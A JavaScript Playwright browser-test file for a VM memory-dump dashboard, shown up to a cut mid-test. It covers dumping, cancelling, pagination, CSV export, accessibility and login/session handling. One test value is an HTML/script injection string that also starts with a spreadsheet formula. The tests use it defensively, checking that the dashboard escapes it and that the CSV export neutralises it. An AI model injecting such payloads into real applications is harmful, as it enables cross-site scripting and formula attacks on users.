// Browser tests of the dashboard against the real stack (nginx, memdump-api, poller,
// memdumpd, Redis, InfluxDB, libvirt guests), in headless Chromium (Debian package)
// driven by playwright-core. Run by `make browser` (MEMDUMP_BIN_DIR = the programs).
//
// The stack is started by tests/browser/stack_helper.py (tests/harness/stack.py as a
// library) in a fresh run folder and always stopped, even on failure or interruption. One
// extra large guest ("big-server") makes dumps slow enough to watch and cancel. A guest whose name holds markup checks that API values are shown as text.
// Access control is on: the harness creates one account per role (admin, investigator,
// operator, viewer) and the helper passes their credentials along; pages log in as admin
// through the API (the session cookie lands in the browser context) unless a test says
// otherwise, and the login tests go through the form.
// Screenshots go to tests/browser/artifacts/. Prints "N passed, M failed"; exits 1 on failure.

import { spawn } from 'node:child_process';
import fs from 'node:fs';
import net from 'node:net';
import os from 'node:os';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { createRequire } from 'node:module';

const HERE = path.dirname(fileURLToPath(import.meta.url));
const REPO = path.resolve(HERE, '..', '..');
const ARTIFACTS = path.join(HERE, 'artifacts');
const require = createRequire(path.join(REPO, 'package.json'));
const { chromium } = require('playwright-core');
const AXE_SOURCE = fs.readFileSync(require.resolve('axe-core/axe.min.js'), 'utf8');

const PY = '/usr/bin/python3';
const XSS_VM = '=1+2<img src=x onerror=window.__xss=1><script>window.__xss=2<script>';
const SMALL_VMS = ['web-server', 'db-server', 'cache-server'];
const BIG_VM = 'big-server';
const BIG_MIB = 2048;
const DESKTOP = { width: 1280, height: 800 };
const MOBILE = { width: 390, height: 844 };
const CHROMIUM_ARGS = ['--headless', '--no-sandbox', '--disable-gpu', '--disable-background-networking',
  '--disable-component-update', '--disable-sync', '--no-first-run', '--disable-quic'];

const sleep = (ms) => new Promise((r) => setTimeout(r, ms));

/* ---- tiny test framework ----------------------------------------------------------- */

const results = [];
const ONLY = process.env.BROWSER_ONLY ? new RegExp(process.env.BROWSER_ONLY, 'i') : null; // run a subset while working
async function test(name, fn) {
  if (ONLY && !ONLY.test(name)) return;
  const t0 = Date.now();
  try {
    await fn();
    results.push({ name, ok: true });
    console.log(`ok    ${name}  (${((Date.now() - t0) / 1000).toFixed(1)} s)`);
  } catch (e) {
    results.push({ name, ok: false, error: e });
    console.log(`FAIL  ${name}  (${((Date.now() - t0) / 1000).toFixed(1)} s)\n      ${String(e && e.stack ? e.stack : e).split('\n').slice(0, 6).join('\n      ')}`);
    if (page) await page.screenshot({ path: path.join(ARTIFACTS, `fail-${name.replace(/[^a-z0-9]+/gi, '-')}.png`), fullPage: true }).catch(() => {});
  }
}

function assert(cond, msg) {
  if (!cond) throw new Error(msg);
}

async function waitFor(what, fn, timeoutMs = 30000, intervalMs = 250) {
  const end = Date.now() + timeoutMs;
  let last;
  for (;;) {
    try {
      last = await fn();
      if (last) return last;
    } catch (e) {
      last = e;
    }
    if (Date.now() > end) throw new Error(`timed out after ${timeoutMs / 1000} s waiting for ${what}${last instanceof Error ? `: ${last.message}` : ''}`);
    await sleep(intervalMs);
  }
}

/* ---- the stack ------------------------------------------------------------------------ */

function freePort() {
  return new Promise((resolve, reject) => {
    const s = net.createServer();
    s.unref();
    s.on('error', reject);
    s.listen(0, '127.0.0.1', () => { const { port } = s.address(); s.close(() => resolve(port)); });
  });
}

// tests/harness/stack.py used as a library by tests/browser/stack_helper.py, which keeps
// the stack for as long as this runner lives (its stdin is our pipe: if we die, it stops
// everything). `stack.py up` is not used: it detaches, and memdumpd, started through
// `setpriv --pdeathsig=TERM`, is stopped as soon as `up` exits.
const runDir = fs.mkdtempSync(path.join(os.tmpdir(), 'mdb-'));
let helper = null;
let helperLines = null;

function startHelper(port) {
  helper = spawn(PY, [path.join(HERE, 'stack_helper.py'), runDir, String(port),
    JSON.stringify([...SMALL_VMS, XSS_VM]), JSON.stringify([[BIG_VM, BIG_MIB]])],
  { stdio: ['pipe', 'pipe', 'inherit'] });
  const queue = [];
  const waiters = [];
  let buf = '';
  helper.stdout.setEncoding('utf8');
  helper.stdout.on('data', (d) => {
    buf += d;
    let i;
    while ((i = buf.indexOf('\n')) >= 0) {
      const line = buf.slice(0, i);
      buf = buf.slice(i + 1);
      let obj;
      try { obj = JSON.parse(line); } catch { console.log(`helper: ${line}`); continue; }
      if (waiters.length) waiters.shift()(obj); else queue.push(obj);
    }
  });
  helper.on('exit', (code) => { while (waiters.length) waiters.shift()({ ok: false, error: `stack helper exited ${code}` }); });
  helperLines = () => (queue.length ? Promise.resolve(queue.shift()) : new Promise((r) => waiters.push(r)));
}

async function helperCall(cmd) {
  helper.stdin.write(`${JSON.stringify(cmd)}\n`);
  const r = await helperLines();
  if (!r.ok) throw new Error(`stack helper: ${r.error}`);
  return r;
}

async function stackUpNow() {
  const port = await freePort();
  startHelper(port);
  const first = await helperLines();
  if (!first.ready) throw new Error(`stack did not start: ${first.error}`);
  return first.env;
}

function stackDown() {
  if (!helper || helper.exitCode !== null) return Promise.resolve();
  return new Promise((resolve) => {
    const timer = setTimeout(() => { helper.kill('SIGTERM'); }, 60000);
    helper.on('exit', () => { clearTimeout(timer); resolve(); });
    try { helper.stdin.end(`${JSON.stringify({ op: 'stop' })}\n`); } catch { helper.kill('SIGTERM'); }
  });
}

/* ---- accounts ------------------------------------------------------------------------ */

let BASE = null;   // the dashboard URL, with a trailing slash
let CREDS = {};    // role -> {user, password, token}
const ROLE_NAMES = ['admin', 'investigator', 'operator', 'viewer'];
const MSG_ENDED = 'Your session has ended; log in again.';

function readCreds(env) {
  const out = {};
  for (const role of ROLE_NAMES) {
    const k = `MEMDUMP_DEMO_${role.toUpperCase()}_`;
    if (env[`${k}USER`] && env[`${k}PASSWORD`]) out[role] = { user: env[`${k}USER`], password: env[`${k}PASSWORD`], token: env[`${k}TOKEN`] || null };
  }
  const missing = ROLE_NAMES.filter((r) => !out[r]);
  if (missing.length) throw new Error(`the stack gave no credentials for ${missing.join(', ')} (MEMDUMP_DEMO_<ROLE>_USER/_PASSWORD in RUN_DIR/demo-credentials)`);
  return out;
}

/** Log a browser context in as `role` through the API: the cookie is then the context's. */
async function apiLogin(ctx, role) {
  const c = CREDS[role];
  const res = await ctx.request.post(`${BASE}api/memory-dumps/session`, {
    data: { user: c.user, password: c.password },
    headers: { 'Content-Type': 'application/json', Origin: new URL(BASE).origin },
  });
  assert(res.status() === 200, `login as ${role} answered ${res.status()}: ${await res.text()}`);
  const body = await res.json();
  assert(body.session && body.session.role === role, `login as ${role} gave ${JSON.stringify(body)}`);
}

const loginOpen = (p) => p.evaluate(() => document.getElementById('login').open);

/** Log in through the login dialog of `p` (it must be open or about to open). */
async function formLogin(p, role, { password } = {}) {
  await waitFor('the login form', () => loginOpen(p), 20000, 100);
  await p.fill('#login-user', CREDS[role].user);
  await p.fill('#login-password', password === undefined ? CREDS[role].password : password);
  await p.keyboard.press('Enter');
}

/** The session cookie of a context (HttpOnly: the page never sees it, playwright does). */
async function sessionCookie(ctx) {
  const cs = await ctx.cookies();
  return (cs.find((c) => c.name === 'memdump_session') || cs.find((c) => c.path.startsWith('/api/memory-dumps')) || {}).value || null;
}

/** Stop one part of the stack with SIGKILL (an outage, no restart). */
async function killPart(name) {
  await helperCall({ op: 'kill', part: name });
}

for (const sig of ['SIGINT', 'SIGTERM', 'SIGHUP']) {
  process.on(sig, () => { if (helper) helper.kill('SIGTERM'); process.exit(130); });
}

/* ---- page helpers ------------------------------------------------------------------------ */

let browser = null;
let page = null;
const consoleErrors = [];
let dialogsSeen = 0;

function watchPage(p, label) {
  p.on('console', (m) => { if (m.type() === 'error') consoleErrors.push(`${label}: ${m.text()}`); });
  p.on('pageerror', (e) => consoleErrors.push(`${label}: uncaught ${e.message}`));
  p.on('dialog', async (d) => { dialogsSeen++; await d.dismiss().catch(() => {}); });
}

/** A fresh browser context and page, logged in as `as` (a role) or not at all (null). */
async function newPage(viewport, colorScheme = 'light', as = 'admin') {
  const ctx = await browser.newContext({ viewport, colorScheme, acceptDownloads: true });
  await ctx.grantPermissions(['clipboard-read', 'clipboard-write']);
  if (as) await apiLogin(ctx, as);
  const p = await ctx.newPage();
  return { ctx, p };
}

async function shot(p, name, fullPage = true) {
  await p.screenshot({ path: path.join(ARTIFACTS, `${name}.png`), fullPage });
}

const historyRows = (p) => p.$$eval('#history-body tr', (trs) => trs.map((tr) => {
  const td = tr.querySelectorAll('td');
  return {
    id: tr.getAttribute('data-id'),
    vm: td[1].textContent,
    state: td[2].querySelector('.badge').textContent,
    sha: td[5].getAttribute('title') || '',
    path: td[6].getAttribute('title') || '',
    by: td[7].textContent,
    download: tr.querySelector('a[download]') ? tr.querySelector('a[download]').getAttribute('href') : null,
  };
}));

async function activeItem(p, vm) {
  return p.evaluate((name) => {
    for (const li of document.querySelectorAll('#active-list .active-item')) {
      if (li.querySelector('.vm-name').textContent === name) {
        const bar = li.querySelector('[role=progressbar]');
        return { state: li.querySelector('.badge').textContent, now: bar.getAttribute('aria-valuenow'), meta: li.querySelector('.active-meta').textContent, id: li.getAttribute('data-id') };
      }
    }
    return null;
  }, vm);
}

async function selectVmByKeyboard(p, name) {
  await p.click('#vm-clear');
  await p.evaluate(() => { if (document.activeElement) document.activeElement.blur(); });
  await p.keyboard.press('/');
  assert(await p.evaluate(() => document.activeElement.id) === 'vm-search', '"/" did not focus the VM search');
  await p.fill('#vm-search', name);
  await p.keyboard.press('ArrowDown');
  await p.keyboard.press('Space');
  const sel = await p.$$eval('#vm-list [aria-selected=true]', (els) => els.map((e) => e.getAttribute('title')));
  assert(sel.length === 1 && sel[0] === name, `keyboard selection gave ${JSON.stringify(sel)}`);
  await p.fill('#vm-search', '');
}

async function toastsText(p) {
  return p.$eval('#toasts', (e) => e.textContent);
}

async function activityText(p) {
  return p.$eval('#activity', (e) => e.textContent);
}

async function runAxe(p, label) {
  await p.evaluate(AXE_SOURCE);
  const res = await p.evaluate(async () => {
    const r = await window.axe.run(document, { resultTypes: ['violations'] });
    return r.violations.map((v) => ({ id: v.id, impact: v.impact, help: v.help, nodes: v.nodes.slice(0, 3).map((n) => n.target.join(' ')) }));
  });
  const bad = res.filter((v) => v.impact === 'serious' || v.impact === 'critical');
  for (const v of res) console.log(`      axe ${label}: ${v.impact} ${v.id}: ${v.help} @ ${v.nodes.join(', ')}`);
  assert(bad.length === 0, `axe (${label}): ${bad.length} serious/critical violation(s): ${bad.map((v) => v.id).join(', ')}`);
}

/* ---- the tests ---------------------------------------------------------------------------- */

async function main() {
  fs.rmSync(ARTIFACTS, { recursive: true, force: true });
  fs.mkdirSync(ARTIFACTS, { recursive: true });
  const t0 = Date.now();
  const env = await stackUpNow();
  const base = env.DASHBOARD_URL.endsWith('/') ? env.DASHBOARD_URL : `${env.DASHBOARD_URL}/`;
  BASE = base;
  CREDS = readCreds(env);
  console.log(`stack up in ${((Date.now() - t0) / 1000).toFixed(0)} s: ${base}`);
  // playwright gives every launch a fresh temporary --user-data-dir of its own
  browser = await chromium.launch({ executablePath: '/usr/bin/chromium', args: CHROMIUM_ARGS });
  ({ p: page } = await newPage(DESKTOP));
  watchPage(page, 'desktop');

  await test('page loads with every VM and no console errors', async () => {
    await page.goto(base);
    await waitFor('the VM list', async () => (await page.$$('#vm-list [role=option]')).length >= SMALL_VMS.length + 2, 30000);
    const names = await page.$$eval('#vm-list [role=option]', (els) => els.map((e) => e.getAttribute('title')));
    for (const n of [...SMALL_VMS, BIG_VM, XSS_VM]) assert(names.includes(n), `VM ${n} missing from ${JSON.stringify(names)}`);
    await waitFor('the services card', async () => (await page.$eval('#services-list', (e) => e.textContent)).includes('ok'), 15000);
    await page.waitForTimeout(1000);
    assert(consoleErrors.length === 0, `console errors: ${consoleErrors.join(' | ')}`);
    assert(await page.$eval('#banner', (e) => e.hidden), 'banner shown on a healthy stack');
    assert(await page.$eval('#auth-off', (e) => e.hidden), 'the "access control is off" banner on a stack with accounts');
    const user = CREDS.admin.user;
    const who = await page.evaluate(() => ({ user: document.getElementById('who-user').textContent, role: document.getElementById('who-role').textContent, open: document.getElementById('login').open }));
    assert(who.user === user && who.role === 'admin' && !who.open, `header: ${JSON.stringify(who)}`);
  });

  await test('a VM name with <script> is shown as text and runs nothing', async () => {
    const opt = await page.$$eval('#vm-list [role=option]', (els, n) => els.filter((e) => e.getAttribute('title') === n).map((e) => e.querySelector('.vm-name').firstChild.textContent), XSS_VM);
    assert(opt.length === 1 && opt[0] === XSS_VM, `option text ${JSON.stringify(opt)}`);
    const injected = await page.evaluate(() => ({ xss: window.__xss, imgs: document.querySelectorAll('main img, main script').length }));
    assert(injected.xss === undefined && injected.imgs === 0, `markup was interpreted: ${JSON.stringify(injected)}`);
    assert(dialogsSeen === 0, 'a JavaScript dialog opened');
  });

  await test('dump a selected VM: live progress, then the completed row with its hash', async () => {
    await selectVmByKeyboard(page, BIG_VM);
    await page.click('#dump-selected');
    await waitFor('a toast about the queued dump', async () => /Dump of big-server (queued|started)/.test(await toastsText(page)), 10000, 100);
    // A 2 GiB dump takes 1-2 s here, less than the way to the page (poller, nginx's 1-2 s
    // cache, the next poll): hold it mid-way, as a slow disk would, to watch it run.
    await helperCall({ op: 'stall' });
    let seen;
    try {
      seen = await waitFor('a running progress bar with bytes', async () => {
        const it = await activeItem(page, BIG_VM);
        return it && it.state === 'running' && Number(it.now) > 0 && /MiB|GiB/.test(it.meta) ? it : null;
      }, 30000, 200);
      await shot(page, 'desktop-progress', false);
    } finally {
      await helperCall({ op: 'resume' });
    }
    console.log(`      saw ${seen.now} %: ${seen.meta}`);
    await waitFor('the dump to leave the active list', async () => !(await activeItem(page, BIG_VM)), 90000, 500);
    const row = await waitFor('the completed row', async () => (await historyRows(page)).find((r) => r.id === seen.id && r.state === 'completed'), 20000);
    assert(/^[0-9a-f]{64}$/.test(row.sha), `bad hash ${row.sha}`);
    assert(row.download === `/api/memory-dumps/dumps/${seen.id}/download`, `download link ${row.download}`);
    assert(row.by === CREDS.admin.user, `"Requested by" shows ${JSON.stringify(row.by)}, not ${CREDS.admin.user}`);
    await waitFor('a completion toast or log line', async () => /big-server completed/.test(await activityText(page)), 10000);
  });

  await test('cancel a running dump', async () => {
    await selectVmByKeyboard(page, BIG_VM);
    await page.click('#dump-selected');
    await helperCall({ op: 'stall' });
    let it;
    try {
      it = await waitFor('the dump to run', async () => {
        const x = await activeItem(page, BIG_VM);
        return x && (x.state === 'running' || x.state === 'queued') ? x : null;
      }, 30000, 150);
      await page.click(`#active-list li[data-id="${it.id}"] button[data-cancel]`);
      await sleep(500); // memdumpd has closed the FIFO; the frozen writer then meets it
    } finally {
      await helperCall({ op: 'resume' });
    }
    await waitFor('a cancel toast', async () => /big-server cancelled/.test(await activityText(page)), 10000, 100);
    await waitFor('the item to go', async () => !(await activeItem(page, BIG_VM)), 20000);
    await waitFor('the cancelled row in history', async () => (await historyRows(page)).some((r) => r.id === it.id && r.state === 'cancelled'), 30000, 500);
  });

  await test('dump all asks for confirmation naming the count, then dumps every VM', async () => {
    const running = 5; // 3 small + big + the markup one
    await page.click('#dump-all');
    await page.waitForSelector('#confirm[open]');
    const title = await page.$eval('#confirm-title', (e) => e.textContent);
    assert(title.includes(`Dump all ${running} VMs`), `confirmation title: ${title}`);
    assert(await page.evaluate(() => document.activeElement.id) === 'confirm-yes', 'focus not on the confirm button');
    await shot(page, 'desktop-confirm', false);
    // "Cancel" first: nothing must happen
    await page.click('#confirm-no');
    assert(!(await page.$('#confirm[open]')), 'dialog still open');
    assert(await page.evaluate(() => document.activeElement.id) === 'dump-all', 'focus not restored to Dump all');
    const before = (await historyRows(page)).length;
    await page.click('#dump-all');
    await page.click('#confirm-yes');
    await waitFor('accepted toasts', async () => (await activityText(page)).includes(`Dump of ${XSS_VM}`), 10000, 100);
    await waitFor('every dump to finish', async () => (await page.$$('#active-list .active-item')).length === 0, 120000, 500);
    const rows = await waitFor('the new rows', async () => {
      const r = await historyRows(page);
      return r.length >= before + running ? r : null;
    }, 20000, 500);
    for (const vm of [...SMALL_VMS, XSS_VM]) {
      assert(rows.some((r) => r.vm === vm && r.state === 'completed' && /^[0-9a-f]{64}$/.test(r.sha)), `no completed row for ${vm}`);
    }
    assert(await page.evaluate(() => window.__xss) === undefined, 'markup ran');
  });

  await test('download link serves the dump file', async () => {
    const row = (await historyRows(page)).find((r) => r.state === 'completed' && r.vm === 'web-server');
    assert(row, 'no completed web-server row');
    const res = await page.request.get(base.replace(/\/$/, '') + row.download, { headers: { Range: 'bytes=0-3' }, maxRedirects: 0 });
    assert([200, 206].includes(res.status()), `download answered ${res.status()}`);
    const body = await res.body();
    assert(body.subarray(0, 4).toString('latin1') === '\x7fELF', `not an ELF file: ${JSON.stringify(body.subarray(0, 4).toString('latin1'))}`);
    const sha = res.headers()['x-dump-sha256'];
    assert(!sha || sha === row.sha, `X-Dump-SHA256 ${sha} != ${row.sha}`);
  });

  await test('pagination', async () => {
    await page.selectOption('#page-size', '5');
    const total = await waitFor('page 1 of 5 rows', async () => {
      const m = /^1–5 of (\d+)/.exec(await page.$eval('#page-info', (e) => e.textContent));
      return m && (await historyRows(page)).length === 5 ? Number(m[1]) : null;
    }, 10000);
    assert(total > 5, `only ${total} records`);
    const first = (await historyRows(page)).map((r) => r.id);
    assert(await page.$eval('#page-prev', (e) => e.disabled), 'Previous enabled on page 1');
    await page.click('#page-next');
    await waitFor('page 2', async () => (await page.$eval('#page-info', (e) => e.textContent)).startsWith(`6–${Math.min(10, total)} of ${total}`), 10000);
    const second = (await historyRows(page)).map((r) => r.id);
    assert(second.length === Math.min(5, total - 5) && second.every((id) => !first.includes(id)), 'page 2 repeats rows of page 1');
    await page.click('#page-prev');
    await waitFor('page 1 again', async () => (await page.$eval('#page-info', (e) => e.textContent)).startsWith('1–5'), 10000);
    // time order: newest first, then oldest first with the header button
    const times = await page.$$eval('#history-body time', (t) => t.map((x) => Date.parse(x.getAttribute('datetime'))));
    assert(times.every((t, i) => i === 0 || times[i - 1] >= t), 'rows not newest first');
    await page.click('#sort-time');
    await waitFor('oldest first', async () => {
      const ts = await page.$$eval('#history-body time', (t) => t.map((x) => Date.parse(x.getAttribute('datetime'))));
      return ts.length === 5 && ts.every((t, i) => i === 0 || ts[i - 1] <= t) && ts[0] < times[times.length - 1];
    }, 10000);
    assert(await page.$eval('#th-time', (e) => e.getAttribute('aria-sort')) === 'ascending', 'aria-sort not updated');
    await page.click('#sort-time');
    await page.selectOption('#page-size', '25');
    await waitFor('all rows on one page', async () => (await historyRows(page)).length === Math.min(25, total), 10000);
  });

  await test('search over loaded rows and VM filter', async () => {
    const all = await historyRows(page);
    await page.fill('#f-text', 'db-ser');
    let rows = await historyRows(page);
    assert(rows.length > 0 && rows.every((r) => r.vm === 'db-server'), `search by name gave ${rows.map((r) => r.vm)}`);
    const target = all.find((r) => r.sha);
    await page.fill('#f-text', target.sha.slice(10, 30));
    rows = await historyRows(page);
    assert(rows.length === 1 && rows[0].id === target.id, 'search by hash');
    await page.fill('#f-text', target.id);
    rows = await historyRows(page);
    assert(rows.length === 1 && rows[0].id === target.id, 'search by id');
    await page.fill('#f-text', '');
    const bigRows = all.filter((r) => r.vm === BIG_VM).length;
    assert(bigRows >= 2, `only ${bigRows} rows of ${BIG_VM}`);
    await page.fill('#f-vm', BIG_VM);
    await waitFor('server-side VM filter', async () => {
      const r = await historyRows(page);
      const info = await page.$eval('#page-info', (e) => e.textContent);
      return r.length === bigRows && r.every((x) => x.vm === BIG_VM) && info.endsWith(`of ${bigRows}`);
    }, 10000);
    await page.fill('#f-vm', '');
    await waitFor('filter cleared', async () => (await historyRows(page)).length === all.length, 10000);
  });

  await test('date filter', async () => {
    const all = await historyRows(page);
    const d = new Date();
    const ymd = (x) => `${x.getFullYear()}-${String(x.getMonth() + 1).padStart(2, '0')}-${String(x.getDate()).padStart(2, '0')}`;
    const tomorrow = new Date(d.getFullYear(), d.getMonth(), d.getDate() + 1);
    const yesterday = new Date(d.getFullYear(), d.getMonth(), d.getDate() - 1);
    await page.fill('#f-since', ymd(tomorrow));
    await waitFor('no rows from tomorrow on', async () => (await historyRows(page)).length === 0 && !(await page.$eval('#history-empty', (e) => e.hidden)), 10000);
    await page.fill('#f-since', ymd(d));
    await page.fill('#f-until', ymd(d));
    await waitFor('today\'s rows', async () => (await historyRows(page)).length === all.length, 10000);
    await page.fill('#f-since', '');
    await page.fill('#f-until', ymd(yesterday));
    await waitFor('nothing until yesterday', async () => (await historyRows(page)).length === 0, 10000);
    await page.click('#f-reset');
    await waitFor('reset', async () => (await historyRows(page)).length === all.length, 10000);
  });

  await test('CSV export holds the filtered rows, quoted and formula-safe', async () => {
    await page.fill('#f-text', 'server');
    const shown = await historyRows(page);
    const [dl] = await Promise.all([page.waitForEvent('download', { timeout: 15000 }), page.click('#export-csv')]);
    const file = path.join(ARTIFACTS, 'export.csv');
    await dl.saveAs(file);
    const text = fs.readFileSync(file, 'utf8');
    const lines = text.split('\r\n').filter((l) => l);
    assert(lines[0] === 'time,dump_id,vm,host,state,format,size_bytes,duration_s,sha256,path,error,requested_by', `header ${lines[0]}`);
    assert(lines.length - 1 === shown.length, `${lines.length - 1} CSV rows for ${shown.length} shown`);
    for (const r of shown) assert(lines.some((l) => l.includes(r.id)), `row ${r.id} missing`);
    await page.fill('#f-text', '');
    // the VM whose name starts with "=" must not become a formula
    const [dl2] = await Promise.all([page.waitForEvent('download', { timeout: 15000 }), page.click('#export-csv')]);
    const all = fs.readFileSync(await dl2.path(), 'utf8');
    assert(all.includes(`,'${XSS_VM},`), 'formula cell not neutralised');
    assert(!/(^|,)=1\+2/m.test(all), 'a cell starts with "="');
  });

  await test('details modal: all fields, focus trapped and restored, Escape and click-outside close, copy hash', async () => {
    const row = (await historyRows(page)).find((r) => r.state === 'completed');
    const btn = `#history-body tr[data-id="${row.id}"] button[data-action=details]`;
    await page.focus(btn);
    await page.keyboard.press('Enter');
    await page.waitForSelector('#details[open]');
    const text = await page.$eval('#details-list', (e) => e.textContent);
    for (const part of [row.id, row.sha, row.path, row.vm]) assert(text.includes(part), `modal lacks ${part}`);
    assert(await page.$eval('#details-download', (a) => !a.hidden && a.getAttribute('href')) === row.download, 'modal download link');
    for (let i = 0; i < 8; i++) {
      await page.keyboard.press('Tab');
      assert(await page.evaluate(() => !!document.activeElement.closest('#details')), `focus left the dialog after ${i + 1} Tab`);
    }
    await page.keyboard.press('Shift+Tab');
    assert(await page.evaluate(() => !!document.activeElement.closest('#details')), 'focus left the dialog on Shift+Tab');
    await shot(page, 'desktop-details', false);
    await page.click('#details-copy');
    await waitFor('clipboard', async () => (await page.evaluate(() => navigator.clipboard.readText())) === row.sha, 5000);
    assert(/Copied the SHA-256/.test(await toastsText(page)), 'no copy toast');
    await page.keyboard.press('Escape');
    await waitFor('closed by Escape', async () => !(await page.$('#details[open]')), 3000);
    assert(await page.evaluate((sel) => document.activeElement === document.querySelector(sel), btn), 'focus not restored');
    await page.click(btn);
    await page.waitForSelector('#details[open]');
    await page.mouse.click(5, 5);
    await waitFor('closed by a click outside', async () => !(await page.$('#details[open]')), 3000);
    // the row's copy button
    await page.evaluate(() => navigator.clipboard.writeText(''));
    await page.click(`#history-body tr[data-id="${row.id}"] button[data-action=copy]`);
    await waitFor('clipboard from the row button', async () => (await page.evaluate(() => navigator.clipboard.readText())) === row.sha, 5000);
  });

  await test('auto-refresh pauses while the tab is hidden', async () => {
    assert(await page.$eval('#auto-refresh', (e) => e.checked), 'auto-refresh not on by default');
    let calls = 0;
    const count = (req) => { if (req.url().includes('/api/memory-dumps/')) calls++; };
    page.on('request', count);
    await page.evaluate(() => {
      Object.defineProperty(document, 'hidden', { configurable: true, get: () => true });
      Object.defineProperty(document, 'visibilityState', { configurable: true, get: () => 'hidden' });
      document.dispatchEvent(new Event('visibilitychange'));
    });
    await page.waitForTimeout(6500);
    const hiddenCalls = calls;
    await page.evaluate(() => {
      delete document.hidden;
      delete document.visibilityState;
      document.dispatchEvent(new Event('visibilitychange'));
    });
    await waitFor('requests again once visible', async () => calls > hiddenCalls, 8000);
    page.off('request', count);
    assert(hiddenCalls === 0, `${hiddenCalls} API calls while hidden`);
  });

  await test('no console errors during the normal run', async () => {
    assert(consoleErrors.length === 0, consoleErrors.join(' | '));
  });

  await test('axe: no serious or critical violations (desktop, dialog, mobile)', async () => {
    await runAxe(page, 'desktop');
    await page.click('#history-body button[data-action=details]');
    await page.waitForSelector('#details[open]');
    await page.waitForTimeout(400); // let the opening fade finish before contrast checks
    await runAxe(page, 'details dialog');
    await page.keyboard.press('Escape');
    const { ctx, p } = await newPage(MOBILE, 'dark');
    watchPage(p, 'mobile');
    await p.goto(base);
    await waitFor('mobile data', async () => (await historyRows(p)).length > 0, 15000);
    await runAxe(p, 'mobile dark');
    await ctx.close();
  });

  await test('screenshots at desktop and mobile widths, no horizontal overflow', async () => {
    await page.evaluate(() => window.scrollTo(0, 0));
    await shot(page, 'desktop');
    for (const scheme of ['light', 'dark']) {
      const { ctx, p } = await newPage(MOBILE, scheme);
      watchPage(p, `mobile-${scheme}`);
      await p.goto(base);
      await waitFor('mobile data', async () => (await historyRows(p)).length > 0, 15000);
      await p.waitForTimeout(600);
      await shot(p, `mobile-${scheme}`);
      await shot(p, `mobile-${scheme}-top`, false);
      await p.$eval('#history-title', (e) => e.scrollIntoView());
      await shot(p, `mobile-${scheme}-history`, false);
      const w = await p.evaluate(() => document.documentElement.scrollWidth);
      assert(w <= MOBILE.width, `page is ${w}px wide at ${MOBILE.width}px`);
      await ctx.close();
    }
    const { ctx, p } = await newPage(DESKTOP, 'dark');
    await p.goto(base);
    await waitFor('desktop dark data', async () => (await historyRows(p)).length > 0, 15000);
    await p.waitForTimeout(600);
    await shot(p, 'desktop-dark');
    await ctx.close();
  });

  /* ---- access control: login, logout, expiry, roles, audit ---------------------------- */

  await test('login form: focus on the user field, a wrong password is refused, the right one shows the dashboard with user and role', async () => {
    const { ctx, p } = await newPage(DESKTOP, 'light', null);
    await p.goto(base);
    await waitFor('the login form', () => loginOpen(p), 15000, 100);
    assert(await p.evaluate(() => document.activeElement.id) === 'login-user', 'focus is not on the user field');
    assert(await p.$eval('#whoami', (e) => e.hidden), 'a user is shown before anyone logged in');
    await runAxe(p, 'login form');
    await shot(p, 'desktop-login', false);
    await formLogin(p, 'admin', { password: `${CREDS.admin.password}-wrong` });
    await waitFor('the refusal', async () => /Wrong user name or password/.test(await p.$eval('#login-message', (e) => e.textContent)), 10000, 100);
    assert(await loginOpen(p), 'the login form closed after a wrong password');
    assert((await p.$$('#vm-list [role=option]')).length === 0, 'VMs shown without a login');
    assert(await p.$eval('#login-password', (e) => e.value) === '', 'the wrong password stays in the field');
    await formLogin(p, 'admin');
    await waitFor('the form to close', async () => !(await loginOpen(p)), 10000, 100);
    await waitFor('the VM list', async () => (await p.$$('#vm-list [role=option]')).length >= SMALL_VMS.length, 20000);
    const who = await p.evaluate(() => ({ user: document.getElementById('who-user').textContent, role: document.getElementById('who-role').textContent, logout: !document.getElementById('logout').hidden, audit: !document.getElementById('views').hidden }));
    assert(who.user === CREDS.admin.user && who.role === 'admin' && who.logout && who.audit, `after login: ${JSON.stringify(who)}`);
    await ctx.close();
  });

  await test('logout returns to the login form, and the API then answers 401', async () => {
    const { ctx, p } = await newPage(DESKTOP, 'light', 'operator');
    await p.goto(base);
    await waitFor('the VM list', async () => (await p.$$('#vm-list [role=option]')).length > 0, 20000);
    assert(await p.$eval('#who-role', (e) => e.textContent) === 'operator', 'role in the header');
    await p.click('#logout');
    await waitFor('the login form', async () => (await loginOpen(p)) && /logged out/.test(await p.$eval('#login-message', (e) => e.textContent)), 15000, 100);
    assert(await p.evaluate(() => document.activeElement.id) === 'login-user', 'focus is not on the user field');
    await waitFor('401 from /status', async () => (await p.evaluate(() => fetch('/api/memory-dumps/status', { cache: 'no-store' }).then((r) => r.status))) === 401, 10000, 500);
    const rec = await p.evaluate(() => fetch('/api/memory-dumps/records?limit=1', { cache: 'no-store' }).then(async (r) => ({ status: r.status, body: await r.json().catch(() => null) })));
    assert(rec.status === 401 && rec.body && rec.body.error && rec.body.error.code === 'unauthenticated', `/records after logout: ${JSON.stringify(rec)}`);
    await ctx.close();
  });

  await test('an expired session: the login form says so, the page keeps its state, and a login resumes', async () => {
    const { ctx, p } = await newPage(DESKTOP, 'light', 'admin');
    await p.goto(base);
    await waitFor('the VM list', async () => (await p.$$('#vm-list [role=option]')).length > 0, 20000);
    await waitFor('history rows', async () => (await historyRows(p)).length > 0, 20000);
    // page state: a selected VM, a history filter, the Audit view open with focus on its tab
    await p.click(`#vm-list [role=option][title="${SMALL_VMS[0]}"]`);
    await p.selectOption('#f-state', 'completed');
    await p.fill('#f-text', 'server');
    await p.click('#tab-audit');
    await waitFor('audit rows', async () => (await p.$$('#audit-body tr')).length > 0, 15000);
    await p.focus('#tab-audit');
    const cookie = await sessionCookie(ctx);
    assert(cookie, 'no session cookie in the context');
    const r = await helperCall({ op: 'drop_sessions', cookie });
    assert(r.dropped === 1, `no Redis key memdump:session:<sha256 of the cookie> (dropped ${r.dropped})`);
    await waitFor('the login form with the message', async () => (await loginOpen(p))
      && (await p.$eval('#login-message', (e) => e.textContent)) === MSG_ENDED, 30000, 200);
    assert(await p.evaluate(() => document.activeElement.id) === 'login-user', 'focus is not on the user field');
    await shot(p, 'desktop-session-ended', false);
    // Escape does not dismiss it
    await p.keyboard.press('Escape');
    await sleep(300);
    assert(await loginOpen(p), 'Escape closed the login form');
    // nothing polls while logged out
    await sleep(1000);
    let calls = 0;
    const count = (req) => { if (req.url().includes('/api/memory-dumps/')) calls++; };
    p.on('request', count);
    await sleep(6000);
    p.off('request', count);
    assert(calls === 0, `${calls} API calls while the login form waits`);
    const kept = await p.evaluate(() => ({
